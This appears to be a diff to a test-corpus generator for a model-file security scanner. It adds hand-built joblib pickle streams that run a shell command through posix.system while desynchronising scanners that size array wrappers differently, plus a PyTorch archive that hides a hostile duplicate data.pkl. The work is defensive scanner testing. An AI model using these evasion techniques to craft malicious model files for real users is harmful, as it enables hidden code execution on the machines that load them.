@@ -742,6 +742,64 @@ def hand_pickles():
     return out
 
 
+def desync_joblib():
+    """(stem, technique, bytes): joblib streams built so that a walker that sizes an array
+    wrapper differently from joblib walks the array's bytes as opcodes and swallows the
+    hostile opcodes joblib runs after them into a BINBYTES argument. Each stream is valid
+    both ways: joblib reads the array, runs the payload, pops its result and stops; the
+    mis-sizing walker sees one bytes value, pops it and stops."""
+    def wrapper_state(shape_items, elsize=-1):
+        dtype = (sg("numpy", "dtype") + u("f8", 4) + pickle.NEWFALSE + pickle.NEWTRUE + pickle.TUPLE3
+                 + pickle.REDUCE + pickle.MARK + pickle.BININT1 + bytes([3]) + u("<", 4) + pickle.NONE
+                 + pickle.NONE + pickle.NONE + pickle.BININT + struct.pack("<i", elsize)
+                 + pickle.BININT + struct.pack("<i", -1) + pickle.BININT1 + bytes([0]) + pickle.TUPLE
+                 + pickle.BUILD)
+        items = (u("subclass", 4) + sg("numpy", "ndarray") + u("order", 4) + u("C", 4) + u("dtype", 4) + dtype
+                 + u("allow_mmap", 4) + pickle.NEWFALSE + shape_items)
+        return pickle.EMPTY_DICT + pickle.MARK + items + pickle.SETITEMS
+
+    def shape(n):
+        return u("shape", 4) + pickle.BININT + struct.pack("<i", n) + pickle.TUPLE1
+
+    payload = sg("posix", "system") + u(CMD, 4) + pickle.TUPLE1 + pickle.REDUCE
+
+    def swallow(data_len, at):
+        # BINBYTES at `at`, covering the rest of the data and the payload.
+        n = data_len - at - 5 + len(payload)
+        return pickle.BINBYTES + struct.pack("<I", n)
+
+    def tail(data):
+        return data + payload + pickle.POP + pickle.STOP
+
+    out = []
+    new_wrapper = sg("joblib.numpy_pickle", "NumpyArrayWrapper") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
+    # 1. `shape` twice in the state dict: the last one is the one BUILD sets.
+    count = 4
+    data = b"\x00" * 8 + swallow(8 * count, 8)
+    data += b"\x00" * (8 * count - len(data))
+    state = wrapper_state(shape(1) + shape(count))
+    out.append(("joblib_desync_duplicate_shape", "joblib-wrapper-duplicate-shape-key",
+                hdr(4) + new_wrapper + state + pickle.BUILD + tail(data)))
+    # 2. The wrapper made by copyreg._reconstructor(cls, object, None), not by the class.
+    recon = (sg("copyreg", "_reconstructor") + sg("joblib.numpy_pickle", "NumpyArrayWrapper")
+             + sg("builtins", "object") + pickle.NONE + pickle.TUPLE3 + pickle.REDUCE)
+    data = swallow(8 * count, 0)
+    data += b"\x00" * (8 * count - len(data))
+    state = wrapper_state(shape(count))
+    out.append(("joblib_desync_reconstructor", "joblib-wrapper-made-by-reconstructor",
+                hdr(4) + recon + state + pickle.BUILD + tail(data)))
+    # 3. A fixed-size dtype whose state claims another element size: NumPy ignores it.
+    data = b"\x00" * count + swallow(8 * count, count)
+    data += b"\x00" * (8 * count - len(data))
+    out.append(("joblib_desync_elsize", "joblib-wrapper-dtype-elsize-lie",
+                hdr(4) + new_wrapper + wrapper_state(shape(count), ELSIZE_LIE) + pickle.BUILD + tail(data)))
+    return out
+
+
+# The element size a lying dtype state claims for `f8` (NumPy sizes it 8 whatever it says).
+ELSIZE_LIE = 1
+
+
 def add_hostile(c: Corpus):
     pays = _payloads()
     for tech, proto in RAW_OBJECT_PICKLES:
@@ -769,6 +827,9 @@ def add_hostile(c: Corpus):
           "joblib-object-array-wrapper")
     c.add("hostile/object_array_wrapper_zlib.joblib", jdump(bundle, "zlib"), "unsafe", "joblib",
           "joblib-object-array-wrapper-zlib")
+    # joblib streams that desynchronise a walker that sizes array wrappers unlike joblib
+    for stem, tech, data in desync_joblib():
+        c.add(f"hostile/{stem}.joblib", data, "unsafe", "joblib", tech, ["posix.system"])
     # NumPy object arrays
     arr = np.array([pays["os-system"], "padding"], dtype=object)
     c.add("hostile/object_array.npy", npy_bytes(arr, allow_pickle=True), "unsafe", "npy", "npy-object-array")
@@ -785,6 +846,17 @@ def add_hostile(c: Corpus):
     extra = [("extra_state.pkl", pickle.dumps(pays["runpy-run-code"], protocol=2))]
     c.add("hostile/torch_second_pkl.pt", torch_zip(_torch_records(torch_pickle(sd), blobs, extra=extra)),
           "unsafe", "torch-zip", "torch-zip-second-pkl-member")
+    # Two entries named data.pkl: a benign one and a hostile one; loaders differ in which
+    # they read, so both must be judged.
+    sd, blobs = _state_dict(torch)
+    bad = dict(sd)
+    bad["_hook"] = pays["os-system"]
+    extra = [("data.pkl", torch_pickle(bad))]
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
+        dup = torch_zip(_torch_records(torch_pickle(sd), blobs, extra=extra))
+    c.add("hostile/torch_duplicate_data_pkl.pt", dup, "unsafe", "torch-zip",
+          "torch-zip-duplicate-data-pkl", ["posix.system"])
     # Keras 3
     c.add("hostile/keras_lambda.keras", keras_archive("lambda"), "unsafe", "keras", "keras3-lambda-layer",
           ["keras.layers.Lambda"])
